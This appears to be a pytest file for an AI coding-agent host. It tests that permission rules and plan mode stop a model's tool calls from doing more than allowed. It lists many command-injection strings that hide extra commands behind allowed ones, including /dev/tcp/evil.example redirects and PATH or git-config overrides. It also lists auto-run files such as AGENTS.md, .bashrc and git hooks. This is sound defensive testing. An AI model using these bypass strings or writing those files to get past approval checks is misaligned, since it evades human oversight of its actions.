"""What a text that the model has read may make it try: calls that a rule seems to allow, and calls in plan mode."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from jupyter_eca.protocol.content import ToolCalledContent, ToolCallRejectedContent, ToolCallRunningContent
from tests.host.turn.test_protected_paths import EVERYTHING, Person, asked, call, plays, project
from tests.mcp_client.house import raw
from tests.support.host_and_client import answer
from tests.support.timeouts import PATIENCE

if TYPE_CHECKING:
    from pathlib import Path

    from jupyter_eca.protocol.chat import ChatContentReceivedParams

pytestmark = pytest.mark.asyncio

# -- command lines

ALLOWED = ["git status", "git log.*", "ls .*", "echo .*"]

# Each begins or ends with a command that a rule allows, and does something else as well.
LINES = [
    # Another command.
    *("git status; touch PWNED", "git status && touch PWNED", "git status || touch PWNED", "git status | tee PWNED"),
    *("git status & touch PWNED", "git status |& tee PWNED", "git status\ntouch PWNED", "touch PWNED; git status"),
    *("git status;;touch PWNED", "git status &| touch PWNED", "echo a;touch PWNED", "echo 'a'; touch PWNED"),
    *("echo 'a'\"b\"';' ; touch PWNED", "echo a #\ntouch PWNED", "echo it\\'s; touch PWNED", "echo a\\\\; touch PWNED"),
    "ls x" + " " * 3_000 + "; touch PWNED",
    "ls x" + "\n" * 100 + "touch PWNED",
    "ls " + "x" * 20_000,
    # A command in a compound one.
    *("{ git status; touch PWNED; }", "(git status; touch PWNED)", "if git status; then touch PWNED; fi"),
    *("while git status; do touch PWNED; break; done", "! git status", "time git status", "f() git status"),
    *("for x in a; do git status; done", "case a in a) touch PWNED;; esac", "function git\n{ touch PWNED; }"),
    # A command in the place of a word.
    *("echo $(touch PWNED)", "echo `touch PWNED`", 'echo "$(touch PWNED)"', "ls <(touch PWNED)", "ls >(touch PWNED)"),
    *("echo ${x:=$(touch PWNED)}", "echo $((x[$(touch PWNED)]))", "echo =(touch PWNED)", "echo {a,$(touch PWNED)}"),
    *("ls *(e:'touch PWNED':)", "echo $'a'", "echo $IFS", "echo ${IFS}a", "ls$IFS.", "echo $HOME"),
    # A file that is written or read.
    *("git status > PWNED", "git status >PWNED", "git status >| PWNED", "git status >> PWNED", "git status &> PWNED"),
    *("git status 2>PWNED", "git status >& PWNED", "git status <> PWNED", "> PWNED git status", "echo a {x}>PWNED"),
    *("echo a >!PWNED", "echo a > 5", "echo a >/dev/null/../PWNED", "echo a >/dev/tcp/evil.example/80"),
    *("ls x < secret", "ls x <<E\na\nE", "ls x <<< a", "ls x </dev/tcp/evil.example/80"),
    # Another program, or another repository.
    *("PATH=. git status", "GIT_DIR=x git status", "env GIT_DIR=x git status", "GIT_EXTERNAL_DIFF=./x git log"),
    *("git -c core.fsmonitor=./x status", "git -C x status", "git --exec-path=. status", "git --git-dir=x status"),
    *("cd x && git status", "./git status", "command git status", "alias git=touch; git status", "xargs git status"),
    *("export PATH=.; git status", "hash -p ./x git; git status", "nohup git status", "git status -uall", "git statu?"),
    # Other characters.
    *("\u202egit status", "git\u200b status", "\u0261it status", "GIT STATUS", "git\u00a0status", "git status\u2028ls"),
    *("git status\r", "git status\x0c", "git status\\", "git status '", "echo a\x0btouch", "git status\u0085ls"),
]


async def test_no_line_does_more_unasked_than_a_rule_for_a_command_allows(tmp_path: Path) -> None:
    rules = {"allow": {"shell_command": {"argsMatchers": {"command": ALLOWED}}}}
    script = plays(*(call("shell_command", command=line) for line in LINES))
    async with project(tmp_path, script, toolCall={"approval": rules}) as table:
        received = await answer(await table.client(), "work", Person(0))
        assert [line for line in LINES if line not in {one.arguments["command"] for one in asked(received)}] == []
        assert list_running(received) == []
        assert list(table.folder.iterdir()) == []


async def test_a_line_of_allowed_commands_runs_unasked(tmp_path: Path) -> None:
    lines = ["echo a", "echo a; echo 'b; c'", "echo a | echo b", "echo a >/dev/null 2>&1", "ls . && echo '$(x)'"]
    rules = {"allow": {"shell_command": {"argsMatchers": {"command": ALLOWED}}}}
    script = plays(*(call("shell_command", command=line) for line in lines))
    async with project(tmp_path, script, toolCall={"approval": rules}) as table:
        received = await answer(await table.client(), "work", Person(0))
        assert asked(received) == []
        assert len(list_running(received)) == len(lines)


# -- files

# Files that decide what may run, or that another program runs by itself, in many spellings.
PATHS = [
    # Spellings.
    *(".eca/config.json", "./.eca//config.json", "x/../.eca/config.json", "link/config.json", ".ECA/config.json"),
    *(
        ".eca./config.json",
        ".eca /config.json",
        ".e\u200bca/config.json",
        "\uff0eeca/config.json",
        ".eca:x/config.json",
    ),
    *(".eca::$INDEX_ALLOCATION/config.json", "x\\.eca\\config.json", "\ufeff.eca/config.json"),
    *("\uff21GENTS.md", "agents.MD", "AGENTS.md.", "AGENTS.md::$DATA", "CLAUDE.md "),
    # Instructions of assistants.
    *("CLAUDE.local.md", "AGENTS.override.md", "GEMINI.md", "sub/QWEN.md", ".goosehints", ".qwen/settings.json"),
    *(".github/copilot-instructions.md", ".copilot/mcp-config.json", ".config/goose/config.yaml"),
    # What shells run.
    *(".bash_aliases", ".bash_logout", ".zlogout", ".cshrc", ".tcshrc", ".kshrc", ".xprofile", ".bashrc", ".zshenv"),
    # What editors, debuggers, kernels and version control run.
    *(".vimrc", ".exrc", ".vim/plugin/x.vim", ".emacs.d/init.el", ".config/nvim/init.lua", ".idea/workspace.xml"),
    *(".zed/tasks.json", ".config/zed/settings.json", ".devcontainer/devcontainer.json", "sub/.pdbrc", ".gdbinit"),
    *(".Rprofile", ".hg/hgrc", ".hgrc", ".git/config", ".git/hooks/pre-commit", ".husky/pre-push"),
    # What the desktop and the system start.
    *(".config/autostart/x.desktop", ".config/systemd/user/x.service"),
]


async def test_no_spelling_of_a_file_that_something_runs_is_written_unasked(tmp_path: Path) -> None:
    script = plays(*(call("write_file", path=path, content="x") for path in PATHS))
    async with project(tmp_path, script, **EVERYTHING) as table:
        (table.folder / ".eca").mkdir()
        (table.folder / "link").symlink_to(".eca")
        received = await answer(await table.client(), "write", Person(0))
        protected = {one.arguments["path"] for one in asked(received) if one.cause and one.cause.kind == "protected"}
        assert [path for path in PATHS if path not in protected] == []
        assert [path for path in table.folder.rglob("*") if path.is_file()] == []


async def test_files_with_names_that_are_only_alike_are_written_as_ever(tmp_path: Path) -> None:
    paths = ["gemini.txt", "my-agents.md", ".gitignore", "vimrc", "idea/x", ".config/matplotlib/rc", ".github/x.md"]
    script = plays(*(call("write_file", path=path, content="x") for path in paths))
    async with project(tmp_path, script, **EVERYTHING) as table:
        assert asked(await answer(await table.client(), "write", Person(0))) == []
        assert all((table.folder / path).exists() for path in paths)


# -- plan mode

PLANNED: list[dict[str, Any]] = [
    call("shell_command", command="ls"),
    call("shell_command", command="touch PWNED", background=True),
    call("shell_command", command="touch PWNED", outside=True),
    call("Shell_Command", command="touch PWNED"),
    call("eca__shell_command", command="touch PWNED"),
    call("write_file", path="PWNED", content="x"),
    call("write_file", path=".eca/config.json", content="{}"),
    call("edit_file", path="kept.txt", original_content="kept", new_content="PWNED"),
    call("edit_file", path="kept.txt", original_content="kept", new_content="PWNED", all_occurrences="true"),
    call("move_file", source="kept.txt", destination="PWNED"),
    call("notebook_create", path="PWNED.ipynb", cells=[{"source": "1"}]),
    call("notebook_edit_cell", path="x.ipynb", cell="a", source="PWNED"),
    call("bg_job", action="kill", job_id="job-00000000"),
    call("spawn_agent", agent="EXPLORER", task="touch PWNED", activity="x"),
    call("spawn_agent", agent=["explorer"], task="touch PWNED", activity="x"),
    call("custom", path="PWNED"),
    call("one__work", path="PWNED"),
]


async def test_in_plan_mode_nothing_changes_whatever_is_called(tmp_path: Path) -> None:
    custom = {
        "description": "Writes.",
        "command": "touch {{path}}",
        "schema": {"properties": {"path": {"type": "string"}}},
    }
    log = tmp_path / "log"
    more = {"customTools": {"custom": custom}, "mcpServers": {"one": raw("works", log)}}
    async with project(tmp_path, plays(*PLANNED), **EVERYTHING, **more) as table:
        (table.folder / "kept.txt").write_text("kept")
        await table.host.mcp.await_started(PATIENCE)
        received = await answer(await table.client(), "Plan it", Person(len(PLANNED)), agent="plan")
        assert list_running(received) == []
        ended = [
            one.content for one in received if isinstance(one.content, ToolCalledContent | ToolCallRejectedContent)
        ]
        assert len(ended) == len(PLANNED)
        assert {path.name: path.read_text() for path in table.folder.iterdir()} == {"kept.txt": "kept"}
        assert "tools/call" not in log.read_text()


@pytest.mark.parametrize("agent", ["explorer", "general"])
async def test_a_subagent_of_plan_mode_has_nothing_that_changes_something(agent: str, tmp_path: Path) -> None:
    changing: list[dict[str, Any]] = [one for one in PLANNED if one["tool"] != "spawn_agent"]
    spawn = call("spawn_agent", agent=agent, task="Look around", activity="x")
    script: list[dict[str, Any]] = [
        {"message": "Look around", "times": 1, "reply": changing},
        {"message": "^Plan", "times": 1, "reply": [spawn]},
        {"result": "", "reply": [{"text": "Done."}]},
    ]
    async with project(tmp_path, script, **EVERYTHING) as table:
        (table.folder / "kept.txt").write_text("kept")
        received = await answer(await table.client(), "Plan it", Person(len(PLANNED)), agent="plan")
        assert list_running(received) == ["spawn_agent"]
        tried = [one.content.name for one in received if isinstance(one.content, ToolCalledContent)]
        assert len(tried) == len(changing) + 1
        assert {path.name: path.read_text() for path in table.folder.iterdir()} == {"kept.txt": "kept"}


def list_running(received: list[ChatContentReceivedParams]) -> list[str]:
    """The names of the tools that ran, also those of subagents."""
    running = {one.content.id: one.content.name for one in received if isinstance(one.content, ToolCallRunningContent)}
    return [*running.values()]
